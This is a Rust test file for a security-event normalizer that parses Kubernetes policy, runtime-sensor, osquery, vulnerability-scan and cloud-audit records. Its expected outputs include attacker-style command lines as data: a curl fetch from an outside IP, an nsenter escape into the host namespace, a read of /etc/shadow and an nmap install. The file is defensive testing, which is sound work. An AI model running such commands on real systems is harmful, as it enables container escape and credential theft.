//! Records of every further system, as the fixtures have them: kind, time, outcome, count and facts.

use std::sync::Arc;

use super::*;
use crate::model::{ClusterId, EnvelopeKind, Limits, Parser, PartitionId, SourceId, TenantId, Wrapped};

fn event(json: &str, kind: Kind, position: u64) -> Event {
    let origin = Arc::new(Origin {
        tenant: TenantId::default(),
        cluster: ClusterId::default(),
        source: SourceId::from("test"),
        partition: PartitionId::from("p"),
        object: Arc::from("o"),
        received: Timestamp::parse("2030-01-01T00:00:00Z").unwrap(),
    });
    let doc = Parser::new(Limits::default()).parse(json.as_bytes(), (kind == Kind::Flow).then_some("flow")).unwrap();
    normalize(Record { doc, kind, envelope: EnvelopeKind::Native, offset: 0, wrapped: Wrapped::default() }, &origin, Position(position))
}

/// The fixture's record of this number, from 1.
fn line(file: &str, number: usize) -> String {
    let path = format!("{}/tests/fixtures/kinds/{file}.ndjson", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(path).unwrap().lines().nth(number - 1).unwrap().to_owned()
}

/// Time, outcome and count, then facts as `name=value,value`, but for entities and what every event has.
fn show(event: &Event) -> String {
    let mut shown = format!("{} {} {}", event.time, event.fact(Field::EventOutcome).unwrap(), event.fact(Field::EventCount).unwrap());
    let silent = ["event.id", "event.kind", "event.time", "event.ingested", "event.envelope", "event.source", "event.outcome", "event.count"];
    for field in Field::ALL.iter().filter(|field| !silent.contains(&field.name()) && !matches!(field, Field::Cluster | Field::Message)) {
        let values = event.facts_of(*field);
        if !values.is_empty() {
            shown.push_str(&format!("\n{}={}", field.name(), values.join(",")));
        }
    }
    shown
}

/// Reads a record of the fixtures and compares what is shown, then reads it again, and elsewhere.
fn check(file: &str, number: usize, kind: Kind, expected: &str) {
    let json = line(file, number);
    let first = event(&json, kind, 1);
    let expected: Vec<&str> = expected.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
    assert_eq!(show(&first).lines().collect::<Vec<_>>(), expected, "{file} {number}");
    let again = event(&json, kind, 1);
    assert_eq!((first.id, first.act), (again.id, again.act));
    // What has a time of its own or a uid is the same event wherever it stands.
    let elsewhere = event(&json, kind, 2);
    assert_eq!(first.id == elsewhere.id, first.fact(Field::EventTimeAssumed).is_none(), "{file} {number}");
}

#[test]
fn policy_results_of_both_generations_are_one() {
    let expected = |severity: &str| {
        format!(
            "2026-05-04T07:11:12.5Z failure 1
            k8s.namespace=books
            k8s.pod=ledger-0
            k8s.pod_uid=0b0c7a52-6d2e-4a36-9d0e-6f6d1d6f6a01
            k8s.resource=pods
            k8s.api_group=
            k8s.name=ledger-0
            policy.name=disallow-host-path
            policy.rule=host-path
            policy.result=fail
            policy.severity={severity}
            policy.category=Pod Security Standards (Baseline)
            policy.engine=kyverno
            entity=pod:books/ledger-0"
        )
    };
    check("policy", 1, Kind::Policy, &expected("high"));
    check("policy", 2, Kind::Policy, &expected("critical"));
    assert_eq!(event(&line("policy", 1), Kind::Policy, 1).id, event(&line("policy", 2), Kind::Policy, 2).id);
    check(
        "policy",
        3,
        Kind::Policy,
        "2030-01-01T00:00:00Z unknown 1
        event.time_assumed=true
        policy.name=runtime
        policy.rule=Terminal shell in container
        policy.result=warn
        policy.engine=Falco",
    );
}

#[test]
fn a_report_is_one_record_with_all_its_results() {
    check(
        "policy",
        5,
        Kind::Policy,
        "2026-05-04T07:11:12.500Z failure 1
        k8s.namespace=books
        k8s.pod=ledger-0
        k8s.pod_uid=p1
        k8s.workload=deployment/ledger
        k8s.resource=deployments,pods
        k8s.api_group=apps,
        k8s.name=ledger,ledger-0
        policy.name=require-limits,disallow-latest
        policy.rule=limits,tag
        policy.result=fail,pass
        policy.severity=medium,low
        policy.category=Best Practices
        policy.engine=kyverno
        entity=workload:books/deployment/ledger,pod:books/ledger-0",
    );
}

#[test]
fn gatekeeper_writes_two_styles_and_repeats_itself() {
    check(
        "policy",
        6,
        Kind::Policy,
        "2026-05-04T07:11:12.250Z failure 1
        event.action=violation_audited
        k8s.namespace=books
        k8s.workload=deployment/ledger
        k8s.resource=deployments
        k8s.api_group=apps
        k8s.name=ledger
        policy.name=limits-required
        policy.rule=K8sContainerLimits
        policy.result=fail,deny
        policy.engine=gatekeeper
        entity=workload:books/deployment/ledger",
    );
    check(
        "policy",
        8,
        Kind::Policy,
        "2026-05-04T07:11:13.125Z failure 1
        event.action=violation
        actor.user.name=system:serviceaccount:books:deployer
        actor.user.type=service_account
        k8s.namespace=books
        k8s.pod=probe
        k8s.resource=pods
        k8s.api_group=
        k8s.name=probe
        policy.name=no-privileged
        policy.rule=K8sPSPPrivilegedContainer
        policy.result=fail,deny
        policy.engine=gatekeeper
        entity=sa:books/deployer,pod:books/probe",
    );
    check(
        "policy",
        9,
        Kind::Policy,
        "2026-05-04T07:11:00Z failure 1
        event.action=violation_audited
        k8s.namespace=books
        k8s.resource=namespaces
        k8s.api_group=
        k8s.name=books
        policy.name=owner-label
        policy.rule=K8sRequiredLabels
        policy.result=fail,dryrun
        policy.engine=gatekeeper",
    );
    let (first, later) = (event(&line("policy", 6), Kind::Policy, 1), event(&line("policy", 7), Kind::Policy, 2));
    assert_eq!((first.id, first.act), (later.id, later.act), "a standing violation is one event a day");
    let next_day = event(&line("policy", 7).replace("1777882272.5", "1777968672.5"), Kind::Policy, 3);
    assert!(next_day.id != first.id && next_day.act == first.act);
    let other = event(&line("policy", 7).replace("\"ledger\"", "\"till\""), Kind::Policy, 3);
    assert!(other.id != first.id && other.act != first.act);
}

#[test]
fn engines_that_block_say_who_did_what() {
    check(
        "policy",
        10,
        Kind::Policy,
        "2026-05-04T07:11:12Z failure 1
        event.action=webhooks.resource.validate
        actor.user.name=mallory
        actor.user.type=human
        k8s.namespace=books
        k8s.pod=ledger-0
        k8s.resource=pods
        k8s.name=ledger-0
        k8s.verb=create
        policy.name=disallow-host-path
        policy.rule=host-path
        policy.result=fail
        policy.engine=kyverno
        entity=user:mallory,pod:books/ledger-0",
    );
    check(
        "policy",
        11,
        Kind::Policy,
        "2026-05-04T07:11:12.25Z failure 1
        event.action=Process
        k8s.namespace=books
        k8s.pod=ledger-0
        k8s.container=app
        k8s.container_id=0123456789ab
        k8s.image=registry.example/ledger:4
        k8s.node=worker-3
        k8s.workload=statefulset/ledger
        process.name=apt
        process.command_line=/usr/bin/apt install nmap
        process.executable=/usr/bin/apt
        process.pid=77
        process.parent.name=bash
        process.parent.executable=/bin/bash
        process.user.uid=0
        policy.name=no-package-managers
        policy.result=block
        policy.severity=5
        policy.category=NIST
        policy.engine=kubearmor
        entity=node:worker-3,image:registry.example/ledger:4,pod:books/ledger-0,workload:books/statefulset/ledger",
    );
}

#[test]
fn osquery_rows_are_files_processes_and_connections() {
    check(
        "osquery",
        1,
        Kind::Fim,
        "2026-05-04T07:11:12Z unknown 1
        event.action=added,CREATED
        k8s.pod_uid=5d1f4f0e-3c5e-4a0b-8f55-0d7c8b8f7b10
        k8s.node=worker-3
        file.path=/var/lib/kubelet/pods/5d1f4f0e-3c5e-4a0b-8f55-0d7c8b8f7b10/volumes/kubernetes.io~empty-dir/cache/run.sh
        file.action=CREATED
        file.hashes=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
        file.owner=0
        file.mode=0755
        file.size=18
        policy.category=kubelet
        entity=node:worker-3",
    );
    check(
        "osquery",
        2,
        Kind::Other,
        "2026-05-04T07:11:10Z unknown 1
        event.action=added
        k8s.node=worker-3
        process.name=curl
        process.command_line=curl -s http://198.51.100.7/x
        process.executable=/usr/bin/curl
        process.pid=3021
        process.user.uid=0
        entity=node:worker-3",
    );
    check(
        "osquery",
        3,
        Kind::Other,
        "2026-05-04T07:11:11Z success 1
        event.action=added,connect
        src.ip=10.0.0.8
        dst.ip=198.51.100.7
        dst.port=80
        k8s.node=worker-3
        process.name=curl
        process.executable=/usr/bin/curl
        process.pid=3021
        entity=node:worker-3,ip:10.0.0.8,ip:198.51.100.7",
    );
    let rows = "2026-05-04T07:11:20Z unknown 1\nevent.action=snapshot\nk8s.node=worker-3\nprocess.name=init,sshd\n\
                process.executable=/sbin/init,/usr/sbin/sshd\nprocess.pid=1,51\nentity=node:worker-3";
    check("osquery", 4, Kind::Other, rows);
    let batch = "2026-05-04T07:11:20Z unknown 1\nk8s.node=worker-3\nprocess.name=nmap\nprocess.executable=/usr/bin/nmap\nprocess.pid=97830\nentity=node:worker-3";
    check("osquery", 5, Kind::Other, batch);
}

#[test]
fn findings_name_rules_severities_and_images() {
    check(
        "findings",
        1,
        Kind::Finding,
        "2030-01-01T00:00:00Z failure 1
        event.time_assumed=true
        policy.name=Worker Node Security Configuration
        policy.rule=4.1.1,4.1.5
        policy.result=pass,fail
        policy.category=Worker Node Configuration Files
        policy.engine=kube-bench",
    );
    let bench = event(&line("findings", 1), Kind::Finding, 1);
    assert_eq!(bench.facts_of(Field::Message), ["Ensure that kubelet.conf permissions are restrictive"]);
    check(
        "findings",
        2,
        Kind::Finding,
        "2026-05-04T07:11:12Z failure 1
        k8s.namespace=books
        k8s.container=app
        k8s.image=registry.example/ledger:4
        k8s.workload=statefulset/ledger
        k8s.resource=statefulsets
        k8s.name=ledger
        policy.name=VulnerabilityReport
        policy.rule=CVE-2026-0001
        policy.result=fail
        policy.severity=critical
        policy.engine=trivy
        entity=image:registry.example/ledger:4,workload:books/statefulset/ledger",
    );
    check(
        "findings",
        3,
        Kind::Finding,
        "2026-05-04T07:11:12Z failure 1
        event.action=update
        k8s.namespace=books
        k8s.pod=probe
        k8s.resource=pods
        k8s.name=probe
        policy.name=ConfigAuditReport
        policy.rule=KSV017,KSV001
        policy.result=fail
        policy.severity=high,medium
        policy.engine=trivy
        entity=pod:books/probe",
    );
    let scan = "2026-05-04T07:11:12.123456789Z failure 1\nk8s.image=registry.example/ledger:4\npolicy.rule=cloud-key\npolicy.result=fail\n\
                policy.severity=high\npolicy.engine=trivy\nentity=image:registry.example/ledger:4";
    check("findings", 4, Kind::Finding, scan);
}

#[test]
fn kubernetes_events_count_and_name_their_object() {
    check(
        "cluster",
        1,
        Kind::K8sEvent,
        "2026-05-04T07:11:12Z unknown 14
        event.action=BackOff
        k8s.namespace=books
        k8s.pod=ledger-0
        k8s.pod_uid=p1
        k8s.container=app
        k8s.node=worker-3
        k8s.resource=pods
        k8s.api_group=
        k8s.name=ledger-0
        entity=pod:books/ledger-0,node:worker-3",
    );
    let node = "2026-05-04T07:11:12.000002Z unknown 3\nevent.action=NodeNotReady\nk8s.node=worker-3\nk8s.resource=nodes\nk8s.name=worker-3\nentity=node:worker-3";
    check("cluster", 2, Kind::K8sEvent, node);
}

#[test]
fn runtime_sensors_tell_process_file_and_connection() {
    check(
        "cluster",
        3,
        Kind::Other,
        "2026-05-04T07:11:12.000000002Z unknown 1
        event.action=process_exec
        k8s.namespace=books
        k8s.pod=probe
        k8s.pod_uid=p2
        k8s.container=c
        k8s.container_id=0123456789ab
        k8s.image=docker.io/library/alpine:3
        k8s.node=worker-3
        process.name=nsenter
        process.command_line=/usr/bin/nsenter -t 1 -m bash
        process.executable=/usr/bin/nsenter
        process.pid=812
        process.parent.name=sh
        process.parent.executable=/bin/sh
        process.user.uid=0
        entity=node:worker-3,pod:books/probe,image:docker.io/library/alpine:3",
    );
    check(
        "cluster",
        4,
        Kind::Other,
        "2026-05-04T07:11:13Z failure 1
        event.action=process_kprobe,security_file_permission
        k8s.namespace=books
        k8s.pod=probe
        k8s.node=worker-3
        process.name=cat
        process.command_line=/bin/cat /etc/shadow
        process.executable=/bin/cat
        process.pid=813
        process.parent.name=sh
        process.parent.executable=/bin/sh
        process.user.uid=0
        file.path=/etc/shadow
        policy.name=guard-shadow
        policy.result=sigkill
        entity=node:worker-3,pod:books/probe",
    );
    let connect = "2026-05-04T07:11:14Z unknown 1\nevent.action=process_connect\nsrc.ip=10.0.0.8\ndst.ip=198.51.100.7\ndst.port=443\nnet.protocol=tcp\n\
                   k8s.node=worker-3\nprocess.name=curl\nprocess.command_line=/usr/bin/curl\nprocess.executable=/usr/bin/curl\nprocess.pid=814\n\
                   entity=node:worker-3,ip:10.0.0.8,ip:198.51.100.7";
    check("cluster", 5, Kind::Other, connect);
    let log = "2026-05-04T07:11:12Z success 1\nevent.action=File\nk8s.namespace=books\nk8s.pod=probe\nk8s.container=c\nk8s.node=worker-3\nprocess.name=cat\n\
               process.command_line=/bin/cat\nprocess.executable=/bin/cat\nprocess.pid=9\nfile.path=/etc/passwd\npolicy.engine=kubearmor\n\
               entity=node:worker-3,pod:books/probe";
    check("cluster", 6, Kind::Other, log);
}

#[test]
fn hubble_speaks_of_itself() {
    let lost = "2026-05-04T07:11:12.5Z unknown 9223372036854775807\nevent.action=lost_events,PERF_EVENT_RING_BUFFER\nk8s.node=worker-3\nentity=node:worker-3";
    check("cluster", 7, Kind::Other, lost);
    check("cluster", 8, Kind::Other, "2030-01-01T00:00:00Z unknown 4096\nevent.action=lost_events,HUBBLE_RING_BUFFER\nevent.time_assumed=true");
    let status = "2026-05-04T07:11:12.7Z failure 1\nevent.action=node_status,NODE_ERROR\nk8s.node=relay,worker-1,worker-2\nentity=node:relay,node:worker-1,node:worker-2";
    check("cluster", 9, Kind::Other, status);
    let agent = "2026-05-04T07:11:12.999999999Z unknown 1\nevent.action=agent_event,IPCACHE_UPSERTED\nk8s.namespace=books\nk8s.pod=ledger-0\n\
                 k8s.node=worker-3\nentity=node:worker-3,pod:books/ledger-0,ip:10.0.2.41";
    check("cluster", 10, Kind::Other, agent);
    check("cluster", 11, Kind::Other, "2026-05-04T07:11:12Z unknown 1\nevent.action=debug_event\nk8s.node=worker-3\nentity=node:worker-3");
    check("cluster", 12, Kind::Flow, "2026-05-04T07:11:12Z failure 9\nnet.verdict=dropped");
}

#[test]
fn audit_trails_are_read_in_both_cases() {
    check(
        "cluster",
        13,
        Kind::CloudAudit,
        "2026-05-04T07:11:12.169917133Z success 1
        event.action=yandex.cloud.audit.k8s.UpdateCluster
        cloud.provider=yandex
        cloud.account=b1f
        actor.user.name=deployer
        actor.user.type=service_account
        actor.user.cloud_id=aje1
        actor.user_agent=Yandex Cloud
        k8s.resource=managed-kubernetes.cluster
        k8s.name=north
        entity=user:deployer",
    );
    check(
        "cluster",
        14,
        Kind::CloudAudit,
        "2026-05-04T07:11:12Z failure 1
        event.action=yandex.cloud.audit.iam.CreateKey
        cloud.provider=yandex
        actor.user.name=mallory@acme.example
        actor.user.type=human
        actor.user.cloud_id=aje2
        actor.credential_id=t1
        actor.user_agent=yc/0.1
        src.ip=203.0.113.9
        src.ips=203.0.113.9
        entity=user:mallory@acme.example,ip:203.0.113.9",
    );
}

#[test]
fn alerts_on_audit_events_are_tied_to_them_and_tests_are_labelled() {
    let alert = event(&line("cluster", 15), Kind::Falco, 1);
    assert_eq!((alert.kind, alert.fact(Field::K8sAuditId)), (Kind::Falco, Some("9a3c")));
    assert_eq!((alert.fact(Field::ExecCommand), alert.fact(Field::EventTest)), (Some("sh"), None));
    assert_eq!(event(&line("cluster", 16), Kind::Falco, 1).fact(Field::EventTest), Some("true"));
}

#[test]
fn what_nobody_knows_says_what_most_records_say() {
    let pod = "2026-05-04T07:11:12Z unknown 1\nk8s.namespace=books\nk8s.pod=ledger-0\nk8s.container=app\nk8s.node=worker-3\nk8s.resource=pods\nk8s.name=ledger-0\n\
               entity=node:worker-3,pod:books/ledger-0";
    check("cluster", 17, Kind::Other, pod);
}
